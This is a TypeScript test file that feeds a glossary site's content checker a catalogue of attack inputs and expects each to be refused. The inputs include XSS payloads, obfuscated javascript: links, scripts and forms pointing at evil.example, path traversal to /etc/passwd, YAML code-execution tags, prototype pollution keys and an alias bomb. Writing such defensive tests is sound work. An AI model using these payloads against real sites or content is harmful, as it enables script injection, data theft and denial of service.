/**
 * A catalogue of attacks that content could try. Each is refused at its line by the rule that names it. What is not refused is
 * text, and tests/e2e/attacks.spec.ts shows in a browser that it stays text.
 */
import { describe, expect, test } from 'vitest';
import { checkContent, type ContentOptions } from '../support/content.ts';
import { baseText, term, withTerm } from '../support/pages.ts';

/** The first issue, as `path:line rule`. */
function refusal(options: ContentOptions): string {
	const [first] = checkContent(options).issues.filter(({ severity }) => severity === 'error');
	return first ? `${first.path}:${first.line} ${first.rule}` : 'nothing';
}

const inProse = (body: string) => refusal(withTerm(body));
const inFacts = (facts: string) => refusal(withTerm('', facts));
const inFile = (path: string, text: string) =>
	refusal({ ...withTerm(''), edits: { ...withTerm('').edits, [path]: text } });

describe('in prose, refused as code', () => {
	test.each([
		['import a from "https://evil.example/a.js"'],
		['export const a = fetch("https://evil.example")'],
		['export default () => alert(1)'],
		['export\tconst a = 1'],
		['{alert(1)}'],
		['a {alert(1)} b'],
		['a {/* comment */} b'],
		['<Aside type={alert(1)}>a</Aside>'],
		['<Aside {...{ onclick: "x" }}>a</Aside>'],
		['<Cite id={`a`} />'],
		['<script>alert(1)</script>'],
		['<script src="//evil.example/a.js" />'],
		['<style>a</style>'],
		['<iframe src="https://evil.example" />'],
		['<svg onload="alert(1)" />'],
		['<img src="x" onerror="alert(1)" />'],
		['<a href="javascript:alert(1)">a</a>'],
		['<p set:html="<img src=x onerror=alert(1)>" />'],
		['<object data="a" />'],
		['<base href="https://evil.example/" />'],
		['<meta http-equiv="refresh" content="0" />'],
		['<form action="https://evil.example"><button>a</button></form>'],
		['<!-- <script>alert(1)</script> -->'],
		['<a:b onload="x" />'],
		['<Aside.b />'],
		['<></>'],
		['[a](javascript:alert)'],
		['[a](JaVaScRiPt:alert)'],
		['[a](<  javascript:alert>)'],
		['[a](java&Tab;script:alert)'],
		['[a](java&NewLine;script:alert)'],
		['[a](&#106;avascript:alert)'],
		['[a](&#x6A;avascript&colon;alert)'],
		['[a](vbscript:msgbox)'],
		['[a](data:text/html,alert)'],
		['[a](file:///etc/passwd)'],
		['[a](blob:https://evil.example/a)'],
		['![a](javascript:alert)'],
		['![a](data:image/svg+xml,a)'],
		['[![a](javascript:alert)](/glossary/)'],
		['[a][b]\n\n[b]: javascript:alert'],
		['![a][b]\n\n[b]: data:text/html,a'],
		['<javascript:alert(1)>'],
		['<https://evil.example/>'],
	])('%s', (body) => {
		expect(inProse(body)).toMatch(/^content\/glossary\/triage\.mdx:1[0-2] no-code-in-content$/);
	});
});

describe('in prose, refused for what it is', () => {
	test.each([
		['a link outside without its protocol', '[a](//evil.example)', 'internal-link'],
		['a control character before a protocol', '[a](&#1;javascript:alert)', 'internal-link'],
		['a path out of the site', '[a](/../x/)', 'internal-link'],
		['a component that nobody registered', '<Script src="a" />', 'unknown-component'],
		[
			'a handler on a component',
			'<Aside type="caution" onclick="x">a</Aside>',
			'unknown-component',
		],
		['HTML on a component', '<Aside type="caution" set:html="a" />', 'unknown-component'],
		['a class on a component', '<Steps class="a">\n\n1. a\n\n</Steps>', 'unknown-component'],
		[
			'a link as a component’s kind',
			'<Aside type="javascript:alert">a</Aside>',
			'unknown-component',
		],
		['a source by the name of a prototype', 'a <Cite id="__proto__" />', 'unknown-citation'],
		['a term by the name of a constructor', '<Term id="constructor">a</Term>', 'unknown-reference'],
	])('%s', (_, body, rule) => {
		expect(inProse(body)).toBe(`content/glossary/triage.mdx:10 ${rule}`);
	});
});

describe('in facts, refused', () => {
	test.each([
		['a title with an element', 'seeAlso: []\ntitle2: <b>', 'invalid-field', 8],
		[
			'an alias with an element',
			'confusableWith: [{ term: handover, difference: "<img src=x onerror=a>" }]',
			'invalid-field',
			7,
		],
		[
			'an expression',
			'confusableWith: [{ term: handover, difference: "{alert(1)}" }]',
			'invalid-field',
			7,
		],
		[
			'the end of a script',
			'confusableWith: [{ term: handover, difference: "</script>" }]',
			'invalid-field',
			7,
		],
		[
			'a second line',
			'confusableWith: [{ term: handover, difference: "a\\nb" }]',
			'invalid-field',
			7,
		],
		['an alias of YAML', 'seeAlso: *a', 'valid-yaml', 7],
		['an anchor', 'seeAlso: &a [handover]', 'valid-yaml', 7],
		['a merge of what an anchor names', '<<: { title: a }', 'invalid-field', 7],
		['a function', 'seeAlso: !!js/function "function () {}"', 'valid-yaml', 7],
		['an expression for js-yaml', 'seeAlso: !!js/regexp /a/', 'valid-yaml', 7],
		['an object of Python', 'seeAlso: !!python/object/apply:os.system [ls]', 'valid-yaml', 7],
		['bytes', 'seeAlso: !!binary aGk=', 'valid-yaml', 7],
		['a set', 'seeAlso: !!set { a }', 'valid-yaml', 7],
		['a directive', '%YAML 1.1', 'valid-yaml', 7],
		['another document', '--- # again', 'frontmatter', 7],
		['TOML, which the engine reads, too', '+++', 'frontmatter', 7],
		['a prototype', '__proto__: { polluted: true }', 'invalid-field', 7],
		['a constructor', 'constructor: { prototype: { polluted: true } }', 'invalid-field', 7],
		['a prototype inside', 'reviewed2: { __proto__: { polluted: true } }', 'invalid-field', 7],
		[
			'a prototype inside a field',
			'confusableWith: [{ term: handover, difference: a, __proto__: b }]',
			'invalid-field',
			7,
		],
		['a path as an id', 'seeAlso: [../../etc/passwd]', 'invalid-field', 7],
		['a prototype as an id', 'seeAlso: [__proto__]', 'invalid-field', 7],
	])('%s', (_, facts, rule, line) => {
		expect(inFacts(facts)).toBe(`content/glossary/triage.mdx:${line} ${rule}`);
		expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
	});
});

describe('ids and files that would lead elsewhere, refused', () => {
	test.each([
		'../x',
		'a/b',
		'a\\b',
		'%2e%2e',
		'..',
		'.',
		'a.b',
		'A',
		' a',
		'__proto__',
		'a"b',
		'<b>',
		'javascript:a',
		'',
	])('a page with the id "%s"', (id) => {
		const text = term('').replace('id: triage', `id: ${JSON.stringify(id)}`);
		expect(inFile('glossary/triage.mdx', text)).toBe('content/glossary/triage.mdx:2 invalid-field');
	});

	test.each([
		'%2e%2e.mdx',
		'a b.mdx',
		'__proto__.mdx',
		'triage.mdx.js',
		'triage.js',
		'triage.astro',
		'a;b.mdx',
	])('a file called "%s"', (name) => {
		expect(inFile(`glossary/${name}`, term(''))).toContain('file-place');
	});

	test.each(['__proto__', 'config.js', 'pages', 'package.json', '_redirects', 'index.html'])(
		'"%s" in the content folder',
		(name) => {
			expect(inFile(name, 'a')).toBe(`content/${name}:1 file-place`);
		},
	);
});

describe('addresses of sources, refused', () => {
	const withUrl = (url: string) =>
		inFile(
			'sources.yaml',
			baseText('sources.yaml').replace(/url: .*/, `url: ${JSON.stringify(url)}`),
		);

	test.each([
		'javascript:alert(1)',
		'JavaScript:alert(1)',
		'java\tscript:alert(1)',
		' javascript:alert(1)',
		'data:text/html,<script>',
		'vbscript:a',
		'//evil.example',
		'/roles/',
		'ftp://a.example',
	])('%s', (url) => {
		expect(withUrl(url)).toMatch(/^content\/sources\.yaml:\d+ invalid-field$/);
	});
});

test('a bomb of YAML aliases is refused before it grows', () => {
	const bomb = `- &a [${'x,'.repeat(9)}]\n- &b [${'*a,'.repeat(9)}]\n- &c [${'*b,'.repeat(9)}]\n`;
	expect(inFile('families.yaml', bomb)).toBe('content/families.yaml:1 valid-yaml');
	expect(inFile('finders/which-path.yaml', bomb)).toBe(
		'content/finders/which-path.yaml:1 valid-yaml',
	);
});

test('an id that is also the name of a file of the site is an id like any other', () => {
	const text = term('').replace('id: triage', 'id: index');
	const { issues } = checkContent({
		...withTerm(''),
		edits: { ...withTerm('').edits, 'glossary/index.mdx': text },
	});
	expect(issues.filter(({ rule }) => rule !== 'alias-conflict')).toEqual([]);
});
